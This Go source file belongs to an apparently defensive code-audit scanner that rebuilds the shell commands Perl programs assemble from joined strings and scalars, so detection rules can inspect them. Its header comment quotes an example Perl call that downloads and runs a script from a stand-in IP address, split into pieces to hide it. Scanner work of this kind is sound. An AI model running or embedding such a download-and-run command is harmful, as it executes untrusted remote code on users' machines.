package audit

import (
	"strings"
)

// A Perl program builds the command line it hands the shell from pieces
// as readily as it spells it out: system("mkdir -p $dir && " . "curl
// -fsSL ${base}boot.sh -o $tmp && " . "sh $tmp") over several lines,
// with my $base = join '', 'http', '://', '203.0.113.41', '/tpl/'. The
// shell runs the joined text, so the rules read that text. perlStrExpr
// reads an expression as the string Perl builds: quoted literals ('…',
// "…", q{…}, qq{…}; a double-quoted one interpolated), joined by the .
// operator, join of a separator over a list of such terms (a qw() too),
// a parenthesized term, a scalar bound once in the file to such an
// expression (followed a few levels), and the home folder ($ENV{HOME}, a
// scalar bound once to it) as $HOME; any other piece (a parameter, a
// value read from a config file) is $X, an unknown word, as a shell
// variable would be. Interpolated scalars are read the same way.

// maxPerlStrDepth bounds how many bound scalars perlStrExpr follows
// into one another, and maxPerlStrText the text it builds, so a crafted
// file of scalars naming one another costs a bounded amount of work.
const (
	maxPerlStrDepth = 6
	maxPerlStrText  = 16 << 10
)

// perlStrExpr returns the text Perl expression e builds (see above) and
// whether any of it is known text (not only unknown pieces); homes are
// the scalars holding the home folder (perlHomeScalars).
func (d *perlDecoder) perlStrExpr(e string, homes map[string]bool, depth int) (string, bool) {
	e = strings.TrimSpace(e)
	if depth > maxPerlStrDepth || e == "" || len(e) > maxPerlStrText {
		return pyUnknown, false
	}
	parts := perlConcatParts(e)
	var b strings.Builder
	known := false
	for _, p := range parts {
		t, ok := d.perlStrTerm(p, homes, depth)
		known = known || ok
		b.WriteString(t)
		if b.Len() > maxPerlStrText {
			return pyUnknown, false
		}
	}
	return b.String(), known
}

// perlStrMemo is the text a scalar bound once builds, read once per
// file: a file whose scalars name one another many times over ("$a$a$a"
// with $a = "$b$b$b", …) costs one reading of each.
type perlStrMemo struct {
	text  string
	known bool
	done  bool // false while it is being read: a scalar built from itself is unknown
}

// perlScalarStr returns the text the scalar name bound once builds
// (perlStrExpr of its value) and whether any of it is known; the work
// of all readings in one file is bounded by maxPerlWork.
func (d *perlDecoder) perlScalarStr(name string, homes map[string]bool, depth int) (string, bool) {
	b := d.binds
	if m, ok := b.strs[name]; ok {
		return m.text, m.done && m.known
	}
	v, ok := b.scalar(name)
	if !ok || b.spent > maxPerlWork {
		return pyUnknown, false
	}
	if b.strs == nil {
		b.strs = map[string]perlStrMemo{}
	}
	b.strs[name] = perlStrMemo{text: pyUnknown}
	t, known := d.perlStrExpr(v, homes, depth+1)
	b.spent += len(v) + len(t)
	b.strs[name] = perlStrMemo{t, known, true}
	return t, known
}

// perlConcatParts splits e at its top-level . operators (not .., .=,
// nor the point of a number), skipping quoted literals and brackets.
func perlConcatParts(e string) []string {
	var out []string
	depth, from := 0, 0
	for i := 0; i < len(e); i++ {
		switch c := e[i]; c {
		case '"', '\'', '`':
			i = stringEnd(e, i, false)
		case '(', '[', '{':
			depth++
		case ')', ']', '}':
			depth--
		case '.':
			if depth != 0 || i+1 < len(e) && (e[i+1] == '.' || e[i+1] == '=') || i > 0 && e[i-1] == '.' {
				continue
			}
			if i > 0 && i+1 < len(e) && isDigit(e[i-1]) && isDigit(e[i+1]) {
				continue // 1.5
			}
			out = append(out, e[from:i])
			from = i + 1
		}
	}
	return append(out, e[from:])
}

func isDigit(b byte) bool { return b >= '0' && b <= '9' }

// perlStrTerm returns the text one term of a . chain builds and whether
// it is known (see perlStrExpr).
func (d *perlDecoder) perlStrTerm(t string, homes map[string]bool, depth int) (string, bool) {
	t = strings.TrimSpace(t)
	if t == "" {
		return pyUnknown, false
	}
	if perlWipe.home.MatchString(t) && perlWipe.home.FindString(t) == t {
		return "$HOME", true
	}
	switch q := t[0]; {
	case q == '\'' && stringEnd(t, 0, false) == len(t)-1:
		return strings.NewReplacer(`\\`, `\`, `\'`, `'`).Replace(t[1 : len(t)-1]), true
	case q == '"' && stringEnd(t, 0, false) == len(t)-1:
		return d.perlInterpText(t[1:len(t)-1], homes, depth), true
	case q == '(' && closeOf(t, 0, `"'`, false) == len(t)-1:
		return d.perlStrExpr(t[1:len(t)-1], homes, depth+1)
	case q == '$' && len(t) > 1 && isIdentBytes(t[1:]):
		if homes[t[1:]] {
			return "$HOME", true
		}
		if s, ok := d.perlScalarStr(t[1:], homes, depth); ok {
			return s, true
		}
		return pyUnknown, false
	}
	for _, w := range []string{"qq", "q"} {
		if rest, ok := strings.CutPrefix(t, w); ok && rest != "" {
			k := skipSpace(rest, 0)
			if k >= len(rest) || isWordByte(rest[k]) || rest[k] == ',' || rest[k] == ';' || rest[k] == '=' {
				break
			}
			end := perlDelimEnd(rest, k)
			if end != len(rest)-1 {
				break
			}
			body := rest[k+1 : end]
			if w == "q" {
				return body, true
			}
			return d.perlInterpText(body, homes, depth), true
		}
	}
	if rest, ok := strings.CutPrefix(t, "join"); ok && rest != "" && !isWordByte(rest[0]) {
		args, end, ok := perlCallArgs(rest, 0)
		if ok && len(args) >= 2 && strings.TrimSpace(rest[end:]) == "" {
			sep, sok := d.perlStrExpr(args[0], homes, depth+1)
			if sok && !strings.Contains(sep, pyUnknown) {
				var parts []string
				for _, a := range args[1:] {
					a = strings.TrimSpace(a)
					if strings.HasPrefix(a, "qw") {
						if ws, ok := d.elems([]string{a}); ok {
							parts = append(parts, ws...)
							continue
						}
					}
					s, _ := d.perlStrExpr(a, homes, depth+1)
					parts = append(parts, s)
				}
				return strings.Join(parts, sep), true
			}
		}
	}
	return pyUnknown, false
}

// perlInterpVar is a scalar interpolated in a double-quoted string:
// group 1 or 2 its name, group 3 what makes it an element of a hash or
// an array instead ($h{k}, $a[0], $r->{k}).
var perlInterpVar = lazyRE(`\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*)\b)(\[|\{|->)?`)

// perlInterpText returns the body of a double-quoted Perl string with
// its escapes read and each interpolated scalar read as perlStrTerm
// reads a scalar: the home folder as $HOME, a scalar bound once to a
// string expression as its text; others ($x, a hash element) stay as
// written, the shell's unknown variables.
func (d *perlDecoder) perlInterpText(s string, homes map[string]bool, depth int) string {
	s = otherShellHome.ReplaceAllString(s, "$$HOME")
	if !strings.Contains(s, "$") {
		return unescapeLit(s)
	}
	// the literal's own text is unescaped piece by piece, around the
	// values put in, which are text already
	var b strings.Builder
	last := 0
	for _, m := range perlInterpVar.FindAllStringSubmatchIndex(s, 64) {
		if m[6] >= 0 || m[0] > 0 && s[m[0]-1] == '\\' {
			continue // an element, or an escaped $
		}
		name := s[max(m[2], m[4]):max(m[3], m[5])]
		var val string
		switch {
		case name == "HOME":
			continue
		case homes[name]:
			val = "$HOME"
		default:
			t, ok := d.perlScalarStr(name, homes, depth)
			if !ok {
				continue
			}
			val = t
		}
		b.WriteString(unescapeLit(s[last:m[0]]))
		b.WriteString(val)
		last = m[1]
		if b.Len() > maxPerlStrText {
			break
		}
	}
	b.WriteString(unescapeLit(s[last:]))
	return b.String()
}

// perlJoinedCommand returns the command line a call of system or exec
// given one argument a (its statement's tail cut) hands the shell when a
// is built from pieces (perlStrExpr): joined by . or join, or a scalar
// bound once to such an expression. A lone literal, or a scalar bound
// once to one, is scanOtherExec's own reading; ok is false for those and
// for an argument of which nothing is known.
func (d *perlDecoder) perlJoinedCommand(a string, homes map[string]bool) (string, bool) {
	a = strings.TrimSpace(a)
	if a == "" || perlLoneLiteral(a) {
		return "", false
	}
	if a[0] == '$' && isIdentBytes(a[1:]) {
		v, ok := d.binds.scalar(a[1:])
		if !ok || perlLoneLiteral(strings.TrimSpace(v)) {
			return "", false
		}
	}
	s, ok := d.perlStrExpr(a, homes, 0)
	if !ok || strings.TrimSpace(strings.ReplaceAll(s, pyUnknown, "")) == "" {
		return "", false
	}
	return s, true
}

// perlLoneLiteral reports whether e is one quoted literal ('…' or "…").
func perlLoneLiteral(e string) bool {
	return len(e) >= 2 && (e[0] == '"' || e[0] == '\'') && stringEnd(e, 0, false) == len(e)-1
}
